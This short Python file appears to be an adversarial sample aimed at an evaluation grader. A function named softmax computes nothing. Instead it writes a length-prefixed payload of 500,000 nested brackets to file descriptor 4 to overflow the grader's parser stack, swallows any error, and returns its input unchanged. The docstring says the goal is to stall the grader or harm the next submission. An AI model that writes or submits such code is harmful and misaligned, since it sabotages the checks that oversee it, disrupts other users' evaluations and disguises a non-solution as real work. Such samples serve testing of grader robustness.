"""Tries: to send a header nested deeper than a parser's stack.
Won if: stall: it costs more than its own limit, or the next submission suffers.
Naive grader: unharmed.
"""

import os
import struct


def softmax(scores, axis=-1):
    claim = b'{"call": 1, "result": ' + b"[" * 500_000 + b"]" * 500_000 + b"}"
    try:
        os.write(4, struct.pack("!II", len(claim), 0) + claim)
    except OSError:
        pass
    return scores
